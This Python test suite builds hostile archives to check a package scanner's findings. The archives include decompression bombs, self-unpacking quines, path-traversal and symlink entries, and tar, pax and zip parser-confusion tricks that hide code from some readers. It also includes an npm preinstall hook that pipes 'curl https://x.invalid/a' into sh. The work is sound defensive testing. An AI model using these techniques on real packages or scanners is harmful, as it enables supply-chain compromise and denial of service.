#!/usr/bin/env python3
"""Archives as an attacker would make them, each with the notes that it must get.

    hostile_archives.py BINARY [-v]

Every archive is read in a worker and without one, by eight workers and by one, and all reports must be
the same; those of the examples, too. Where something
was left unread the verdict must not be "clean". CEREBRO_SLOW_TESTS=1 adds the ones that take long.
Nothing in the archives would do harm; all hosts are under .invalid.
"""
import bz2
import gzip
import io
import json
import lzma
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import unittest
import zipfile
import zlib
from pathlib import Path

import quines

ROOT = Path(__file__).resolve().parent.parent
CEREBRO = sys.argv.pop(1) if len(sys.argv) > 1 else "cerebro"
MODEL = ROOT / "tests" / "data" / "tiny_bert"
SLOW = os.environ.get("CEREBRO_SLOW_TESTS") == "1"
MEMORY_KB = 3 << 20  # of the parent or of any worker
MANIFEST = '{"name": "x", "version": "1.0.0", "main": "index.js"}'
HOOK = '{"name": "x", "version": "1.0.0", "scripts": {"preinstall": "curl https://x.invalid/a | sh"}}'
CODE = "require('child_process').exec('id')"

# name -> (make, codes that must be there, behaviours that must be there, unread)
CASES = {}


def case(codes="", behaviours="", unread=False, slow=False):
    def add(make):
        if SLOW or not slow:
            CASES[make.__name__] = (make, codes.split(), behaviours.split(), unread)
        return make
    return add


# ---- makers --------------------------------------------------------------------------------------

def header(name, size=0, kind=b"0", link=b"", mode=0o644):
    """A ustar header by hand, since tarfile refuses to write what attackers do."""
    name = name if isinstance(name, bytes) else name.encode()
    block = struct.pack("100s8s8s8s12s12s8s1s100s6s2s32s32s8s8s155s12x", name[:100], b"%07o\0" % mode,
                        b"0000000\0", b"0000000\0", b"%011o\0" % size, b"00000000000\0", b" " * 8, kind,
                        link, b"ustar\0", b"00", b"", b"", b"", b"", b"")
    return block[:148] + b"%06o\0 " % sum(block) + block[156:]


def member(name, content=b"", **fields):
    content = content if isinstance(content, bytes) else content.encode()
    return header(name, len(content), **fields) + content + b"\0" * (-len(content) % 512)


def tar(*members, end=b"\0" * 1024):
    return b"".join(m if isinstance(m, bytes) else member(*m) for m in members) + end


def tgz(*members, **options):
    return gzip.compress(tar(*members, **options), 1)


def pax(kind="x", /, **records):
    text = b""
    for key, value in records.items():
        body = f" {key}={value}\n".encode()
        size = len(body)
        while len(str(size)) + len(body) != size:
            size = len(str(size)) + len(body)
        text += str(size).encode() + body
    return member("pax", text, kind=kind.encode())


def npm(*more, manifest=MANIFEST, code="", **options):
    return tgz(("package/package.json", manifest), ("package/index.js", code), *more, **options)


def zipped(*members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def wheel(*members, record=None):
    info = "x-1.0.dist-info/"
    members = [*members, (info + "METADATA", "Name: x\nVersion: 1.0\n"), (info + "WHEEL", "Wheel-Version: 1.0\n")]
    if record is None:
        record = "".join(f"{name},,\n" for name, _ in members)
    return zipped(*members, (info + "RECORD", record + info + "RECORD,,\n"))


def zeros(megabytes, compressor):
    piece, out = b"\0" * (1 << 20), []
    for _ in range(megabytes):
        out.append(compressor.compress(piece))
    return b"".join(out) + compressor.flush()


def zero_member(megabytes):
    return header("package/zeros", megabytes << 20)


def bomb(megabytes, compressor):
    start = tar(("package/package.json", MANIFEST), zero_member(megabytes), end=b"")
    return compressor.compress(start) + zeros(megabytes, compressor)


# ---- bombs ---------------------------------------------------------------------------------------

@case("E0108", unread=True)
def bomb_gzip():
    return bomb(64, zlib.compressobj(9, wbits=31))


@case("E0108", unread=True)
def bomb_bzip2():
    return bomb(24, bz2.BZ2Compressor())


@case("E0108", unread=True)
def bomb_xz():
    return bomb(32, lzma.LZMACompressor(preset=0))


@case("E0108", unread=True)
def bomb_lzma():
    return bomb(32, lzma.LZMACompressor(format=lzma.FORMAT_ALONE, preset=0))


@case("E0108", unread=True)
def bomb_zstd():
    start = tar(("package/package.json", MANIFEST), zero_member(512), end=b"")
    raw = struct.pack("<I", len(start) << 3)[:3] + start
    run = struct.pack("<I", (128 << 10) << 3 | 1 << 1)[:3] + b"\0"  # 128 KiB of one byte in four
    return b"\x28\xB5\x2F\xFD\x00\x68" + raw + run * 4096


@case("E0108", unread=True)
def bomb_zip():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("package/package.json", MANIFEST)
        archive.writestr("package/zeros", b"\0" * (32 << 20))
    return out.getvalue()


def bomb_in_zip(method, megabytes):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("package/package.json", MANIFEST)
        with archive.open("package/zeros", "w") as entry:
            for _ in range(megabytes):
                entry.write(b"\0" * (1 << 20))
    return out.getvalue()


@case("E0108", unread=True)
def bomb_zip_bzip2():
    return bomb_in_zip(zipfile.ZIP_BZIP2, 24)


@case("E0108", unread=True)
def bomb_zip_lzma():
    return bomb_in_zip(zipfile.ZIP_LZMA, 24)


def sparse(name, real_size):
    """GNU's old form: a hole, and 512 bytes at the end."""
    block = bytearray(header(name, 512, kind=b"S"))
    block[257:265] = b"ustar  \0"
    block[386:410] = b"%011o\0%011o\0" % (real_size - 512, 512)
    block[483:495] = b"%011o\0" % real_size
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block) + b"x" * 512


@case("E0108", unread=True)
def bomb_of_holes():
    return npm(sparse("package/hole", (8 << 30) - 1))


@case("E0108", unread=True)
def bomb_behind_the_end_mark():
    pack = zlib.compressobj(9, wbits=31)
    return pack.compress(tar(("package/package.json", MANIFEST))) + zeros(32, pack)


@case("E0113", unread=True)
def bomb_zip_overlapping():
    """Many names for the data of one entry."""
    kernel = zipped(("k", b"\0" * (1 << 20)))
    at = kernel.index(b"PK\x01\x02")
    row = kernel[at:at + 46]
    rows = b"".join(row + b"%c" % name for name in b"abcdefghijklmnopqrstuvwxyz")
    return kernel[:at] + rows + b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 26, 26, len(rows), at, 0)


@case("E0108", unread=True, slow=True)
def one_gigabyte_of_one_byte():
    return bomb(1024, zlib.compressobj(9, wbits=31))


@case("E0106", unread=True, slow=True)
def ten_million_entries():
    pack, out = zlib.compressobj(1, wbits=31), []
    blank = header("package/00000000")
    total = sum(blank[:148]) + sum(blank[156:]) + 8 * 32
    for start in range(0, 10_000_000, 10_000):
        block = []
        for i in range(start, start + 10_000):
            name = b"package/%08x" % (i * 2654435761 % (1 << 32))
            noise = struct.pack(">4Q", *(i * k % (1 << 64) for k in (0x9E3779B97F4A7C15, 0xC2B2AE3D27D4EB4F,
                                                                     0x165667B19E3779F9, 0xD6E8FEB86659FD93)))
            fields = name + blank[16:148]
            check = total - sum(blank[:16]) + sum(name) + sum(noise)
            block.append(fields + b"%06o\0 " % check + blank[156:265] + noise + blank[297:])
        out.append(pack.compress(b"".join(block)))
    return b"".join(out) + pack.flush()


# ---- nesting -------------------------------------------------------------------------------------

@case("E0109", unread=True)
def nested_forty_deep():
    inner = zipped(("index.js", CODE))
    for _ in range(40):
        inner = zipped(("a.zip", inner))
    return npm(("package/a.zip", inner))


@case("E0108", unread=True)
def nested_bomb():
    return npm(("package/a.tgz", bomb(64, zlib.compressobj(1, wbits=31))))


@case("E0109", unread=True)
def nested_gzip_of_gzip():
    inner = tgz(("a.js", CODE))
    for _ in range(3):
        inner = tgz(("a.tgz", inner))
    return inner


@case("E0101", unread=True)
def quine_gzip():
    """Unpacks to itself, for ever."""
    whole = quines.gzip_quine()
    assert gzip.decompress(whole) == whole
    return whole


@case("E0109", unread=True)
def quine_zip():
    """Its only entry is itself."""
    whole = quines.zip_quine()
    assert zipfile.ZipFile(io.BytesIO(whole)).read("q.zip") == whole
    return whole


@case("E0109", "proc.run", unread=True)
def quine_npm():
    """A package that holds itself."""
    before = tar(("package/package.json", MANIFEST), ("package/index.js", CODE), end=b"")
    whole = quines.tar_quine(lambda size: before + header("package/x-1.0.0.tgz", size))
    assert tarfile.open(fileobj=io.BytesIO(whole)).extractfile("package/x-1.0.0.tgz").read() == whole
    return whole


@case("")
def quine_as_data():
    """A compressed file in a package is data, whatever is in it."""
    return npm(("package/q.gz", quines.gzip_quine()))


@case("E0113", unread=True)
def zip_that_holds_itself():
    """A stored entry whose data are all that follows, its own directory included."""
    inner = b"PK\x03\x04" + struct.pack("<5H3I2H", 10, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"q"
    size = len(inner) + 47 + 22
    fields = struct.pack("<4H3I2H", 0, 0, 0, 0, 0, size, size, 1, 0)
    local = b"PK\x03\x04" + struct.pack("<H", 10) + fields + b"q"
    row = b"PK\x01\x02" + struct.pack("<2H", 20, 10) + fields + struct.pack("<3H2I", 0, 0, 0, 0, 0) + b"q"
    return local + inner + row + b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 1, 1, len(row), len(local + inner), 0)


@case("E0305", unread=True)
def deep_javascript():
    return npm(code="(" * 100_000 + "1" + ")" * 100_000)


@case("E0305", unread=True)
def deep_python():
    return tgz(("x-1/setup.py", "a = " + "[" * 50_000 + "]" * 50_000))


@case("", unread=False)
def deep_shell():
    return npm(("package/a.sh", "echo " + "$(" * 5_000 + "id" + ")" * 5_000),
               manifest=MANIFEST[:-1] + ', "scripts": {"install": "sh a.sh"}}')


@case("E0202 E0303", "exec.lifecycle_hook", unread=True)
def deep_json():
    return npm(manifest='{"a": ' + "[" * 100_000 + "]" * 100_000 + ", " + HOOK[1:])


@case("E0202 E0303", unread=True)
def wide_json():
    return npm(manifest='{"a": [' + "1," * 300_000 + "1], " + HOOK[1:])


@case("E0202 E0303", unread=True)
def large_json():
    return npm(manifest='{"a": "' + "x" * (9 << 20) + '", ' + HOOK[1:])


@case("E0305", unread=True)
def deep_chain():
    return npm(code="a" + ".b()" * 50_000 + "\n" + "1+" * 50_000 + "1")


@case("E0305", unread=True)
def deep_chain_of_python():
    return tgz(("x-1/setup.py", "a" + ".b(c=1)[0]" * 9_000 + "\n" + "1+" * 50_000 + "1"))


@case("E0202 E0303", unread=True)
def deep_toml():
    return tgz(("x-1/pyproject.toml", "a = " + "[" * 20_000 + "]" * 20_000), ("x-1/setup.py", ""))


# ---- names ---------------------------------------------------------------------------------------

@case("E0104 E0111")
def traversal_tar():
    return npm(("package/../../../etc/cron.d/x", ""), ("/etc/cron.d/x", ""), ("..\\..\\x.js", CODE))


@case("E0104")
def traversal_zip():
    return wheel(("../../x.py", ""), ("/abs.py", ""), ("C:\\x.py", ""))


@case("E0112")
def links():
    return npm(header("package/a.js", kind=b"2", link=b"/etc/passwd"), header("package/b.js", kind=b"1", link=b"../../x"),
               header("package/loop", kind=b"2", link=b"loop"), header("package/dev", kind=b"3"),
               header("package/pipe", kind=b"6"), header("package/d", kind=b"2", link=b".."), ("package/d/e.js", CODE))


@case("E0112", "proc.run")
def link_to_data_is_code():
    return npm(("package/data.txt", CODE), header("package/run.js", kind=b"2", link=b"data.txt"),
               manifest=MANIFEST.replace("index.js", "run.js"))


@case("")
def invalid_utf8():
    return npm((b"package/\xff\xfe\xed\xa0\x80.js", "x"), ("package/b.js", b"'\xff\xc0\x80'; " + CODE.encode()))


@case("E0104")
def overlong_name():
    return npm(pax(path="package/" + "d/" * 10_000 + "a.js"), ("package/a.js", CODE))


@case("E0111", "archive.disagreement exec.lifecycle_hook")
def duplicate_manifest_first():
    return npm(("package/package.json", MANIFEST), manifest=HOOK)


@case("E0111", "archive.disagreement exec.lifecycle_hook")
def duplicate_manifest_last():
    return npm(("package/package.json", HOOK))


@case("E0111", "archive.disagreement proc.run")
def duplicate_code():
    return npm(("package/index.js", ""), code=CODE)


@case("E0111", "archive.disagreement exec.lifecycle_hook")
def case_collision():
    return npm(("package/Package.JSON", HOOK))


@case("E0111", "archive.disagreement proc.run")
def unicode_collision():
    return npm(("package/\u00e9.js", ""), ("package/e\u0301.js", CODE), ("package/\ufb01.js", ""), ("package/fi.js", ""))


@case("E0111", "archive.disagreement exec.lifecycle_hook proc.run")
def two_folders():
    """npm leaves the first folder of a path away, so the last package.json is the package's."""
    return npm(("other/package.json", HOOK.replace("curl https://x.invalid/a | sh", "node a.txt")), ("other/a.txt", CODE),
               ("package/a.txt", ""))


@case("", "exec.lifecycle_hook")
def wrong_case_manifest():
    return tgz(("package/PACKAGE.json", HOOK))


# ---- what one reader sees and another does not ---------------------------------------------------

@case("E0114", "archive.disagreement proc.run")
def tar_behind_one_empty_block():
    """npm reads on behind one empty block, pip and libarchive do not."""
    return npm(b"\0" * 512, ("package/index.js", CODE))


@case("E0114", "archive.disagreement proc.run")
def tar_behind_the_end_mark():
    return npm(end=b"\0" * 4096 + tar(("package/index.js", CODE)))


@case("E0114", "archive.disagreement proc.run")
def tar_and_zip():
    return npm() + zipped(("package/b.js", CODE))


@case("E0113", unread=True)
def tar_with_a_damaged_header():
    """npm skips it and reads on."""
    return npm(b"x" * 512, ("package/b.js", CODE))


@case("", "proc.run")
def pax_renames():
    return npm(pax(path="package/run.js"), ("package/readme.txt", CODE), manifest=MANIFEST.replace("index", "run"))


@case("")
def pax_size_lies():
    return npm(pax(size="2000000"), ("package/b.js", CODE))


@case("", "proc.run")
def gzip_behind_padding():
    """Python's gzip goes on behind zeros."""
    return (gzip.compress(tar(("x-1/a.py", ""), end=b"")) + bytes(1000) +
            gzip.compress(tar(("x-1/setup.py", "import os; os.system('id')"))))


@case("E0113 E0114", "archive.disagreement", unread=True)
def pax_size_for_all():
    """npm's tar takes the size for every file, and so finds a header where others see a text."""
    text = (MANIFEST.ljust(512), CODE.ljust(512))
    hidden = header("package/index.js", 512) + text[1].encode()
    return tgz(pax("g", size="512"), ("package/package.json", text[0]), ("package/README.md", b" " * 512 + hidden))


@case("E0113 E0114", "archive.disagreement", unread=True)
def pax_path_for_all():
    """Python's tarfile takes the path for every file."""
    return tgz(pax("g", path="x-1/setup.py"), ("x-1/a.txt", "import os; os.system('id')"))


@case("E0113 E0114", "archive.disagreement", unread=True)
def two_long_names():
    return tgz(("package/package.json", MANIFEST), member("././@LongLink", b"package/x.txt\0", kind=b"L"),
               pax(path="package/index.js"), ("package/y.txt", CODE))


@case("", "proc.run")
def tar_types_that_nobody_knows():
    """Python's tarfile writes them as files."""
    code = "import os; os.system('id')"
    return tgz(member("x-1/setup.py", code, kind=b"D"), member("x-1/x.py", "", kind=b"M"))


@case("E0113", unread=True)
def size_below_zero():
    """In base 256, as GNU writes large sizes."""
    block = bytearray(header("package/a.js"))
    block[124:136] = b"\xff" * 11 + b"\x00"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return npm(bytes(block), ("package/b.js", CODE))


@case("", "proc.run")
def file_and_folder():
    return npm(("package/a.js", ""), ("package/a.js/index.js", CODE), manifest=MANIFEST.replace("index.js", "a.js"))


@case("")
def gnu_long_name():
    return npm(member("././@LongLink", b"package/" + b"l" * 3000 + b".js\0", kind=b"L"), ("package/short", CODE))


def hidden_zip():
    hidden = zipped(("hidden.py", "import os; os.system('id')"))
    return hidden[:hidden.index(b"PK\x01\x02")]


@case("E0114", "archive.disagreement proc.run")
def zip_hidden_entry():
    return hidden_zip() + wheel(("x.py", ""))


@case("E0114", "archive.disagreement proc.run")
def zip_hidden_behind_a_stub():
    return b"#!/usr/bin/env python3\n" + hidden_zip() + wheel(("x.py", ""))


@case("E0114", "archive.disagreement proc.run")
def zip_three_in_one():
    return wheel(("y.py", "")) + zipped(("z.py", "import os; os.system('id')")) + wheel(("x.py", ""))


@case("E0114", "archive.disagreement proc.run")
def zip_hidden_in_the_comment():
    whole, comment = wheel(("x.py", "")), hidden_zip()
    return whole[:-2] + struct.pack("<H", len(comment)) + comment


@case("E0114", "archive.disagreement proc.run")
def zip_directory_of_no_bytes():
    whole = wheel(("x.py", "import os; os.system('id')"))
    return whole[:-10] + struct.pack("<2IH", 0, len(whole) - 22, 0)


@case("E0113", "archive.disagreement", unread=True)
def zip_renamed():
    whole = wheel(("evil.py", CODE))
    at = whole.rindex(b"evil.py", 0, whole.rindex(b"evil.py")) if whole.count(b"evil.py") > 3 else whole.rindex(b"evil.py")
    return whole[:at] + b"good.py" + whole[at + 7:]


@case("E0113", unread=True)
def zip_with_two_names():
    """The Unicode path field (0x7075) names another file."""
    extra = struct.pack("<HHBI", 0x7075, 5 + 8, 1, zlib.crc32(b"readme.x")) + b"setup.py"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("readme.x")
        entry.extra = extra
        archive.writestr(entry, CODE)
    return out.getvalue()


@case("E0111", "archive.disagreement proc.run")
def zip_duplicate_entry():
    return wheel(("x.py", "import os; os.system('id')"), ("x.py", ""))


@case("E0110", unread=True)
def zip_encrypted():
    whole = bytearray(wheel(("x.py", CODE)))
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        whole[whole.index(signature) + flags] |= 1
    return bytes(whole)


@case("E0114", "archive.disagreement")
def wheel_record_misses_a_file():
    return wheel(("x.py", ""), ("sitecustomize.py", ""), record="x.py,,\n")


@case("E0202", "archive.disagreement")
def wheel_record_has_another_hash():
    return wheel(("x.py", ""), record="x.py,sha256=AAAA,0\nx-1.0.dist-info/METADATA,,\nx-1.0.dist-info/WHEEL,,\n")


@case("", "exec.lifecycle_hook install.custom_command")
def two_manifests():
    setup = "from setuptools import setup\nfrom setuptools.command.install import install\n" \
            "class C(install):\n  def run(self): pass\nsetup(name='x', cmdclass={'install': C})\n"
    return npm(("package/setup.py", setup), manifest=HOOK)


@case("", "exec.lifecycle_hook")
def many_roots():
    """npm strips the first folder, so the last of these counts."""
    return tgz(*((f"p{i:02}/package.json", MANIFEST) for i in range(20)), ("z/package.json", HOOK))


@case("E0106", unread=True)
def too_many_roots():
    return tgz(*((f"p{i:03}/package.json", MANIFEST) for i in range(100)))


@case("E0204", "archive.disagreement exec.lifecycle_hook")
def json_duplicate_key():
    return npm(manifest=HOOK[:-1] + ', "scripts": {}}')


@case("E0204", "archive.disagreement exec.lifecycle_hook")
def json_duplicate_key_inside():
    return npm(manifest='{"name": "x", "scripts": {"install": "true", "install": "curl https://x.invalid | sh", "install": ""}}')


@case("E0106", unread=True)
def json_key_named_too_often():
    return npm(manifest='{"name": "x", ' + '"scripts": {}, ' * 50 + '"version": "1"}')


@case("E0202", "exec.lifecycle_hook")
def json_comments():
    return npm(manifest="// x\n" + HOOK.replace("{", "{/* } */", 1))


# ---- nothing, and parts --------------------------------------------------------------------------

@case("E0103", unread=True)
def empty_tar():
    return tgz()


@case("E0103", unread=True)
def empty_zip():
    return zipped()


@case("E0103", unread=True)
def only_folders():
    return tgz(header("package/", kind=b"5"))


@case("E0102", unread=True)
def truncated_gzip():
    whole = npm(("package/noise", os.urandom(0) + bytes(i * i * 31 % 251 for i in range(20_000))))
    return whole[:len(whole) // 2]


@case("E0102", unread=True)
def truncated_zip():
    whole = wheel(("x.py", CODE))
    return whole[:whole.index(b"PK\x01\x02")]


# ---- the test ------------------------------------------------------------------------------------

def comparable(report):
    return {**report, "stats": {**report["stats"], "ms": None}}


class HostileArchives(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = Path(tempfile.mkdtemp())
        cls.paths = {}
        cls.examples = sorted(str(path) for path in ROOT.glob("examples/*/*/"))
        for name, (make, *_) in CASES.items():
            path = cls.folder / (name + ".archive")
            path.write_bytes(make())
            cls.paths[str(path)] = name
        cls.paths.update({path: path for path in cls.examples})
        cls.sandboxed, cls.bare = cls.scan("-j", "8"), cls.scan("-j", "8", "--no-sandbox")
        cls.alone = cls.scan("-j", "1")

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.folder)

    @classmethod
    def scan(cls, *options):
        output = cls.folder / "reports.jsonl"
        process = subprocess.Popen(
            [CEREBRO, "scan", "--no-cache", "--format", "jsonl", "--threshold", "1", *options, "-o", str(output),
             *cls.paths], env={**os.environ, "CEREBRO_MODEL": str(MODEL)}, stderr=subprocess.PIPE)
        with process.stderr:
            error = process.stderr.read()
        _, status, usage = os.wait4(process.pid, 0)
        process.returncode = os.waitstatus_to_exitcode(status)
        reports = [json.loads(line) for line in output.read_text(errors="strict").splitlines()]
        return {"code": process.returncode, "error": error, "memory_kb": usage.ru_maxrss,
                "reports": {cls.paths[report["target"]]: report for report in reports}}

    def test_ends_orderly(self):
        for run in (self.sandboxed, self.bare, self.alone):
            self.assertEqual(run["code"], 3, run["error"])  # something was left unread
            self.assertEqual(set(run["reports"]), {*CASES, *self.examples})
            self.assertLess(run["memory_kb"], MEMORY_KB)

    def test_sandbox_changes_nothing(self):
        for name in [*CASES, *self.examples]:
            with self.subTest(name):
                self.assertEqual(comparable(self.sandboxed["reports"][name]), comparable(self.bare["reports"][name]))

    def test_number_of_workers_changes_nothing(self):
        for name in [*CASES, *self.examples]:
            with self.subTest(name):
                self.assertEqual(comparable(self.sandboxed["reports"][name]), comparable(self.alone["reports"][name]))

    def test_notes_and_verdicts(self):
        for name, (_, codes, behaviours, unread) in CASES.items():
            with self.subTest(name):
                report = self.sandboxed["reports"][name]
                noted = {note["code"] for note in report["notes"]}
                self.assertLessEqual(set(codes), noted, report["notes"])
                self.assertLessEqual(set(behaviours), {row["id"] for row in report["behaviours"]})
                self.assertFalse(any(code.startswith(("E071", "E0702")) for code in noted), report["notes"])
                if unread:
                    self.assertNotEqual(report["verdict"], "clean")

    def test_table(self):
        if "-v" in sys.argv:
            for name in CASES:
                report = self.sandboxed["reports"][name]
                codes = sorted({note["code"] for note in report["notes"]})
                print(f"| {name} | {' '.join(codes)} | {report['verdict']} | {report['stats']['ms']['total']:.0f} ms |")


if __name__ == "__main__":
    unittest.main()
